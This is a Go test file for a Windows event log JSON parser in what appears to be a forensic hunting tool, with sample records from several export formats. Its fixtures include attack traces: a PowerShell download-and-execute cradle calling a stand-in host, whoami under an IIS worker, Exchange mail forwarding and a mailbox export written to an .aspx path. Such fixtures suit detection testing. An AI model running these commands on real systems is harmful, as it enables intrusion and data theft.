package winjson_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/exhunt/exhunt/event"
	"github.com/exhunt/exhunt/parse"
	"github.com/exhunt/exhunt/parse/winjson"
)

// got is one emitted record, flattened for comparison.
type got struct {
	line int64
	w    event.WinEvent
}

func run(t testing.TB, input string) ([]got, parse.Stats, error) {
	t.Helper()
	var out []got
	st, err := winjson.Parse(context.Background(), strings.NewReader(input), parse.Meta{Path: "x.json", Host: "h", Source: event.WinJSON}, func(ev *event.Event) error {
		if ev.Source != event.WinJSON || ev.Win == nil || ev.Loc.Record != ev.Win.RecordID || ev.Loc.Path != "x.json" || ev.Host != "h" {
			t.Fatalf("event %+v", ev)
		}
		if tm, ok := ev.Time(); ok && tm.Location() != time.UTC {
			t.Fatalf("time %v", tm)
		}
		if string(ev.Raw) != string(ev.Win.AppendValues(nil)) {
			t.Fatalf("raw %q", ev.Raw)
		}
		if x := ev.Excerpt(); !utf8.ValidString(x) {
			t.Fatalf("excerpt %q", x)
		}
		w := *ev.Win
		w.Data = append([]event.KV(nil), w.Data...)
		out = append(out, got{ev.Loc.Line, w})
		return nil
	})
	if st.First.After(st.Last) || len(st.Problems) > parse.MaxProblems || st.Records != int64(len(out)) {
		t.Fatalf("stats %+v", st)
	}
	return out, st, err
}

func kvs(w event.WinEvent) string {
	var b strings.Builder
	for i, kv := range w.Data {
		if i > 0 {
			b.WriteByte(' ')
		}
		fmt.Fprintf(&b, "%s=%s", kv.Key, kv.Value)
	}
	return b.String()
}

func sys(w event.WinEvent) string {
	return fmt.Sprintf("%s|%s|%s|%d|%d|%d|%s", w.Channel, w.Provider, w.Computer, w.EventID, w.Level, w.RecordID, w.Time.Format(time.RFC3339Nano))
}

// One record per shape, as each tool writes it.
var shapes = []struct {
	name, json, sys, data string
}{
	{
		"winlogbeat",
		`{"@timestamp":"2021-03-02T07:11:04.123Z","agent":{"type":"winlogbeat"},"event":{"code":"4624"},"host":{"name":"ex01.corp.example"},"log":{"level":"information"},` +
			`"winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing","event_id":4624,"record_id":"9012","computer_name":"EX01.corp.example",` +
			`"event_data":{"SubjectUserSid":"S-1-5-18","LogonType":"3","IpAddress":"203.0.113.9","ProcessName":"C:\\Windows\\System32\\inetsrv\\w3wp.exe"},"api":"wineventlog"}}`,
		"Security|Microsoft-Windows-Security-Auditing|EX01.corp.example|4624|4|9012|2021-03-02T07:11:04.123Z",
		`SubjectUserSid=S-1-5-18 LogonType=3 IpAddress=203.0.113.9 ProcessName=C:\Windows\System32\inetsrv\w3wp.exe`,
	},
	{
		"winlogbeat user data",
		`{"@timestamp":"2021-03-02T07:11:04Z","winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Eventlog","event_id":"1102","record_id":7,"computer_name":"EX01",` +
			`"user_data":{"xml_name":"LogFileCleared","SubjectUserSid":"S-1-5-21-1-2-3-500","SubjectUserName":"admin"}}}`,
		"Security|Microsoft-Windows-Eventlog|EX01|1102|0|7|2021-03-02T07:11:04Z",
		`SubjectUserSid=S-1-5-21-1-2-3-500 SubjectUserName=admin`,
	},
	{
		"evtx_dump",
		`{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},` +
			`"EventID":1,"Version":5,"Level":4,"TimeCreated":{"#attributes":{"SystemTime":"2021-03-02T07:11:04.1234567Z"}},"EventRecordID":31,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"EX01","Security":{"#attributes":{"UserID":"S-1-5-18"}}},` +
			`"EventData":{"RuleName":"-","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c \"whoami\"","ParentImage":"c:\\windows\\system32\\inetsrv\\w3wp.exe"}}}`,
		"Microsoft-Windows-Sysmon/Operational|Microsoft-Windows-Sysmon|EX01|1|4|31|2021-03-02T07:11:04.1234567Z",
		`RuleName=- Image=C:\Windows\System32\cmd.exe CommandLine=cmd /c "whoami" ParentImage=c:\windows\system32\inetsrv\w3wp.exe`,
	},
	{
		"evtx_dump qualifiers and unnamed data",
		`{"Event":{"System":{"Provider":{"#attributes":{"Name":"MSExchange CmdletLogs"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":1},"Level":4,` +
			`"TimeCreated":{"#attributes":{"SystemTime":"2021-11-19T16:52:33.833733Z"}},"EventRecordID":3229,"Channel":"MSExchange Management","Computer":"EX01"},` +
			`"EventData":{"Data":{"#text":["Set-Mailbox","-Identity \"Administrator\" -ForwardingSmtpAddress \"smtp:x@example.com\"",""]},"Binary":null}}}`,
		"MSExchange Management|MSExchange CmdletLogs|EX01|1|4|3229|2021-11-19T16:52:33.833733Z",
		`Data=Set-Mailbox Data=-Identity "Administrator" -ForwardingSmtpAddress "smtp:x@example.com" Data= Binary=`,
	},
	{
		"event with named data list",
		`{"Event":{"System":{"Provider":{"Name":"Microsoft-Windows-Security-Auditing"},"EventID":{"Value":4688},"EventRecordID":"5","Channel":"Security","Computer":"EX01",` +
			`"TimeCreated":{"SystemTime":"2021-03-02 07:11:04.5"}},` +
			`"EventData":{"Data":[{"#attributes":{"Name":"NewProcessName"},"#text":"C:\\Windows\\System32\\cmd.exe"},{"Name":"TokenElevationType","#text":"%%1936"},{"@Name":"x","Value":"y"},"loose"]}}}`,
		"Security|Microsoft-Windows-Security-Auditing|EX01|4688|0|5|2021-03-02T07:11:04.5Z",
		`NewProcessName=C:\Windows\System32\cmd.exe TokenElevationType=%%1936 Data=y Data=loose`,
	},
	{
		"velociraptor",
		`{"System":{"Provider":{"Name":"Microsoft-Windows-PowerShell","Guid":"A0C1853B-5C40-4B15-8766-3CF1C58F985A"},"EventID":{"Value":4104},"Level":5,` +
			`"TimeCreated":{"SystemTime":1614669064.25},"EventRecordID":77,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"EX01"},` +
			`"EventData":{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')","ScriptBlockId":"b1"},"Message":"Creating Scriptblock text"}`,
		"Microsoft-Windows-PowerShell/Operational|Microsoft-Windows-PowerShell|EX01|4104|5|77|2021-03-02T07:11:04.25Z",
		`MessageNumber=1 MessageTotal=1 ScriptBlockText=IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1') ScriptBlockId=b1`,
	},
	{
		"user data nested",
		`{"Event":{"System":{"Provider_Name":"Microsoft-Windows-Eventlog","EventID":1102,"Channel":"Security","Computer":"DC01","TimeCreated_SystemTime":"2020-09-15T18:04:36.333990Z"},` +
			`"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog"},"SubjectUserSid":"S-1-5-21-1-2-3-500","SubjectUserName":"admin","Flags":{"#attributes":{"value":"1"},"#text":"x"}}}}}`,
		"Security|Microsoft-Windows-Eventlog|DC01|1102|0|0|2020-09-15T18:04:36.33399Z",
		`SubjectUserSid=S-1-5-21-1-2-3-500 SubjectUserName=admin value=1 Flags=x`,
	},
	{
		"nxlog mordor",
		`{"Keywords":"0x8020000000000000","SeverityValue":2,"Severity":"INFO","EventID":4624,"SourceName":"Microsoft-Windows-Security-Auditing","ProviderGuid":"{54849625-5478-4994-A5BA-3E3B0328C30D}",` +
			`"Version":2,"Task":12544,"OpcodeValue":0,"RecordNumber":1133466,"ProcessID":752,"ThreadID":3988,"Channel":"Security","Message":"An account was successfully logged on.",` +
			`"Category":"Logon","Opcode":"Info","SubjectUserSid":"S-1-5-18","TargetUserName":"pgustavo","LogonType":"3","IpAddress":"172.18.39.5",` +
			`"EventReceivedTime":"2020-05-02 02:55:57","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog","@version":"1","@timestamp":"2020-05-02T06:55:56.806Z",` +
			`"EventTime":"2020-05-02 02:55:55","host":"wec.internal.cloudapp.net","port":61101,"tags":["mordorDataset"],"Hostname":"WORKSTATION5.theshire.local"}`,
		"Security|Microsoft-Windows-Security-Auditing|WORKSTATION5.theshire.local|4624|0|1133466|2020-05-02T06:55:56.806Z",
		`Keywords=0x8020000000000000 SeverityValue=2 Severity=INFO ProviderGuid={54849625-5478-4994-A5BA-3E3B0328C30D} Version=2 Task=12544 OpcodeValue=0 ProcessID=752 ThreadID=3988 Category=Logon Opcode=Info SubjectUserSid=S-1-5-18 TargetUserName=pgustavo LogonType=3 IpAddress=172.18.39.5`,
	},
	{
		"flat with zoned event time",
		`{"EventID":"7045","Channel":"System","Computer":"EX01","ProviderName":"Service Control Manager","EventTime":"2021-03-02T09:11:04+02:00","EventRecordID":12,"Level":"4",` +
			`"ServiceName":"svc","ImagePath":"%COMSPEC% /c echo","EventData":{"Data":["a","b"]}}`,
		"System|Service Control Manager|EX01|7045|4|12|2021-03-02T07:11:04Z",
		`ServiceName=svc ImagePath=%COMSPEC% /c echo Data=a Data=b`,
	},
	{
		"powershell",
		`{"Id":1,"Version":0,"LevelDisplayName":"Information","Level":4,"LogName":"MSExchange Management","ProviderName":"MSExchange CmdletLogs","MachineName":"EX01.corp.example",` +
			`"RecordId":3229,"TimeCreated":"\/Date(1637340753833)\/","Properties":[{"Value":"New-MailboxExportRequest"},{"Value":"-Mailbox x -FilePath \\\\127.0.0.1\\c$\\a.aspx"},{"Value":7}],"Message":"Cmdlet succeeded."}`,
		"MSExchange Management|MSExchange CmdletLogs|EX01.corp.example|1|4|3229|2021-11-19T16:52:33.833Z",
		`Data=New-MailboxExportRequest Data=-Mailbox x -FilePath \\127.0.0.1\c$\a.aspx Data=7`,
	},
	{
		"unicode escapes",
		`{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":"\u0049EX \u00e9\ud83d\ude00 \ud800x \t\/"}`,
		"Microsoft-Windows-PowerShell/Operational|||4104|0|0|0001-01-01T00:00:00Z",
		"ScriptBlockText=IEX é\U0001F600 \uFFFDx \t/",
	},
}

func TestShapes(t *testing.T) {
	for _, tt := range shapes {
		t.Run(tt.name, func(t *testing.T) {
			recs, st, err := run(t, tt.json+"\n")
			if err != nil || len(recs) != 1 || st.Malformed != 0 {
				t.Fatalf("err %v, %d records, stats %+v", err, len(recs), st)
			}
			if g := sys(recs[0].w); g != tt.sys {
				t.Errorf("system\n got %s\nwant %s", g, tt.sys)
			}
			if g := kvs(recs[0].w); g != tt.data {
				t.Errorf("data\n got %s\nwant %s", g, tt.data)
			}
		})
	}
}

// all returns every shape's record in JSON lines.
func all() string {
	var b strings.Builder
	for _, s := range shapes {
		b.WriteString(s.json)
		b.WriteByte('\n')
	}
	return b.String()
}

func TestLayouts(t *testing.T) {
	n := len(shapes)
	var arr strings.Builder
	arr.WriteString("[\n")
	for i, s := range shapes {
		if i > 0 {
			arr.WriteString(",\n")
		}
		arr.WriteString("  " + s.json)
	}
	arr.WriteString("\n]\n")
	var pretty strings.Builder
	for i, s := range shapes {
		fmt.Fprintf(&pretty, "Record %d\n%s\n", i+1, strings.ReplaceAll(strings.ReplaceAll(s.json, `,"`, ",\n  \""), `{"`, "{\n  \""))
	}
	tests := []struct {
		name, in  string
		records   int
		malformed int64
		lines     []int64
	}{
		{"json lines", all(), n, 0, []int64{1, 2, 3}},
		{"crlf and blank lines", "\r\n" + strings.ReplaceAll(all(), "\n", "\r\n\r\n"), n, 0, []int64{2, 4, 6}},
		{"bom", "\uFEFF" + all(), n, 0, []int64{1, 2}},
		{"array, one per line", arr.String(), n, 0, []int64{2, 3}},
		{"array on one line", "[" + strings.ReplaceAll(strings.TrimSpace(all()), "\n", ",") + "]", n, 0, []int64{1, 1}},
		{"pretty objects with headers", pretty.String(), n, 0, []int64{2}},
		{"empty array", "[]", 0, 0, nil},
		{"empty", "", 0, 0, nil},
		{"broken lines", shapes[0].json + "\n{\"EventID\": 1,\n" + `{"a":1}` + "\n[1,2]\nnot json\n" + shapes[1].json + "\n", 2, 4, []int64{1, 6}},
		{"array with junk", "[" + shapes[0].json + ",{\"x\":\n" + `"y"}, 17, ` + shapes[1].json + "]", 2, 2, []int64{1, 2}},
		{"array cut", "[" + shapes[0].json + "," + shapes[1].json[:50], 1, 1, []int64{1}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			recs, st, err := run(t, tt.in)
			if err != nil || len(recs) != tt.records || st.Malformed != tt.malformed {
				t.Fatalf("err %v, %d records (want %d), stats %+v", err, len(recs), tt.records, st)
			}
			if tt.malformed > 0 && len(st.Problems) == 0 {
				t.Errorf("no problem noted")
			}
			for i, l := range tt.lines {
				if recs[i].line != l {
					t.Errorf("record %d on line %d, want %d", i, recs[i].line, l)
				}
			}
			if len(recs) == n {
				for i, s := range shapes {
					if g := sys(recs[i].w); g != s.sys {
						t.Errorf("%s: %s", s.name, g)
					}
				}
			}
		})
	}
}

func utf16LE(s string) string {
	b := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func TestUTF16(t *testing.T) {
	recs, st, err := run(t, utf16LE(all()))
	if err != nil || len(recs) != len(shapes) || st.Malformed != 0 {
		t.Fatalf("err %v, %d records, stats %+v", err, len(recs), st)
	}
	if g := kvs(recs[len(recs)-1].w); g != shapes[len(shapes)-1].data {
		t.Errorf("got %s", g)
	}
	// Big-endian, pretty-printed array as PowerShell writes it.
	be := []byte{0xFE, 0xFF}
	for _, u := range utf16.Encode([]rune("[\r\n    " + shapes[9].json + "\r\n]")) {
		be = binary.BigEndian.AppendUint16(be, u)
	}
	recs, _, err = run(t, string(be))
	if err != nil || len(recs) != 1 || recs[0].w.EventID != 1 {
		t.Fatalf("big endian: %v %d", err, len(recs))
	}
}

func TestBounds(t *testing.T) {
	long := `{"EventID":1,"Channel":"x","Data":"` + strings.Repeat("A", parse.MaxLine) + `"}`
	recs, st, err := run(t, shapes[0].json+"\n"+long+"\n"+shapes[1].json+"\n")
	if err != nil || len(recs) != 2 || st.Malformed != 1 || len(st.Problems) == 0 {
		t.Fatalf("long line: err %v, %d records, %+v", err, len(recs), st.Problems)
	}
	big := `[` + shapes[0].json + `,{"EventID":1,"Data":"` + strings.Repeat("B", 2<<20) + `"},` + shapes[1].json + `]`
	recs, st, err = run(t, big)
	if err != nil || len(recs) != 2 || st.Malformed != 1 {
		t.Fatalf("big object: err %v, %d records, %+v", err, len(recs), st)
	}
	deep := `{"EventID":1,"Channel":"x","D":` + strings.Repeat(`{"a":`, 200) + "1" + strings.Repeat("}", 200) + "}"
	recs, st, _ = run(t, deep+"\n"+shapes[0].json+"\n")
	if len(recs) != 1 || st.Malformed != 1 {
		t.Fatalf("deep: %d records, %+v", len(recs), st)
	}
	wide := `{"EventID":1,"Channel":"x","D":[` + strings.Repeat(`1,`, 70000) + "1]}"
	recs, st, _ = run(t, wide+"\n")
	if len(recs) != 0 || st.Malformed != 1 {
		t.Fatalf("wide: %d records, %+v", len(recs), st)
	}
	fields := `{"EventID":1,"Channel":"x","D":[` + strings.Repeat(`"v",`, 5000) + `"v"]}`
	recs, _, _ = run(t, fields+"\n")
	if len(recs) != 1 || len(recs[0].w.Data) != 4096 {
		t.Fatalf("fields: %d records", len(recs))
	}
	bin := "\x00\x01\x02\x03\x04\x05\x06\x07\x08" + strings.Repeat("\x00\xff", 100)
	if _, _, err := run(t, bin); !errors.Is(err, parse.ErrBinary) {
		t.Errorf("binary: %v", err)
	}
}

func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	in := strings.Repeat(shapes[0].json+"\n", 3000)
	if _, err := winjson.Parse(ctx, strings.NewReader(in), parse.Meta{}, func(*event.Event) error { return nil }); !errors.Is(err, context.Canceled) {
		t.Errorf("lines: %v", err)
	}
	if _, err := winjson.Parse(ctx, strings.NewReader("["+strings.ReplaceAll(in, "\n", ",")+"]"), parse.Meta{}, func(*event.Event) error { return nil }); !errors.Is(err, context.Canceled) {
		t.Errorf("stream: %v", err)
	}
	stop := errors.New("stop")
	st, err := winjson.Parse(context.Background(), strings.NewReader(in), parse.Meta{}, func(*event.Event) error { return stop })
	if err != stop || st.Records != 1 {
		t.Errorf("emit error: %v %d", err, st.Records)
	}
}

func BenchmarkWinJSON(b *testing.B) {
	var buf bytes.Buffer
	for buf.Len() < 8<<20 {
		buf.WriteString(all())
	}
	data := buf.Bytes()
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	var n int64
	start := time.Now()
	for b.Loop() {
		st, err := winjson.Parse(context.Background(), bytes.NewReader(data), parse.Meta{}, func(*event.Event) error { return nil })
		if err != nil || st.Malformed != 0 {
			b.Fatal(err, st)
		}
		n += st.Records
	}
	b.ReportMetric(float64(n)/time.Since(start).Seconds(), "events/s")
}
